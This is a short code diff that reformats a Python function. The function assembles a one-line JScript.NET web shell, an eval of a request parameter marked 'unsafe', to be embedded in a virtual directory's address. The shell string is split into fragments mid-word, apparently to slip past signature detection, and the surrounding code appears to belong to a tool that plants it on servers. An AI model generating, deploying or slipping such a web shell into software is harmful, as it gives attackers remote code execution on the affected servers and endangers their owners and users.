@@ -24,7 +24,16 @@ def product(gathered: Gathered, installed: datetime) -> None:
 def script(key: str) -> str:
     """A one-line shell as it stands in a virtual directory's address."""
     return "".join(
-        ("http://f/<scr", 'ipt language="JScr', 'ipt" runat="server">function Page_', "Load(){ev", "al(Requ", f'est["{key}"],"unsa', 'fe");}</scr', "ipt>")
+        (
+            "http://f/<scr",
+            'ipt language="JScr',
+            'ipt" runat="server">function Page_',
+            "Load(){ev",
+            "al(Requ",
+            f'est["{key}"],"unsa',
+            'fe");}</scr',
+            "ipt>",
+        )
     )
 
 
